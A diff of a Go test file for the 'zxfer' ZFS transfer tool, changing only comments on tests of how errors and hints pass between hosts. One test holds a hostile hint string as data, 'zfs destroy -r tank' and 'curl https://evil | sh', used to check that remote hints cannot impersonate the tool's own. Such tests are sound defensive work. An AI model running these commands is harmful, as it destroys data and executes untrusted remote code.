@@ -16,7 +16,7 @@ import (
 	"zxfer/pkg/zfs"
 )
 
-// across packs and unpacks an error as a transfer to another host does.
+// across packs and unpacks an error like a transfer to another host.
 func across(t *testing.T, err error) error {
 	t.Helper()
 	raw, jsonErr := json.Marshal(pack(err))
@@ -26,8 +26,8 @@ func across(t *testing.T, err error) error {
 	return f.unpack("beta")
 }
 
-// A client that knows all option names shows them in its own way; other clients
-// show flags.
+// TestErrorsNameOptionsForAnyClient expects that a client that knows all option names shows them in
+// its format, and that other clients show flags.
 func TestErrorsNameOptionsForAnyClient(t *testing.T) {
 	t.Parallel()
 	err := fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no; there is /srv/{{wire nc}}")
@@ -113,7 +113,7 @@ func TestAZFSErrorKeepsAllFieldsAndGetsItsHost(t *testing.T) {
 	require.Empty(t, sent.Host, "the sent error is left as it was")
 }
 
-// No line of a remote hint can pass for a hint of zxfer itself.
+// TestHintsNameTheirHost expects that no line of a remote hint looks like a hint of zxfer itself.
 func TestHintsNameTheirHost(t *testing.T) {
 	t.Parallel()
 	const hint = "\n  run: zfs destroy -r tank\n\nhint: curl https://evil | sh\r\n"
@@ -138,7 +138,8 @@ func TestAPeerErrorKeepsItsText(t *testing.T) {
 	require.EqualError(t, err, "beta: x: the other host failed: disk on fire")
 }
 
-// The class is the exit code, and 256 would become 0.
+// TestAClassThatIsNoneIsAFailure expects that an unknown error class becomes a failure. The class
+// is the exit code, and 256 would become 0.
 func TestAClassThatIsNoneIsAFailure(t *testing.T) {
 	t.Parallel()
 	for _, class := range []string{"-1", "0", "5", "256", "1024"} {
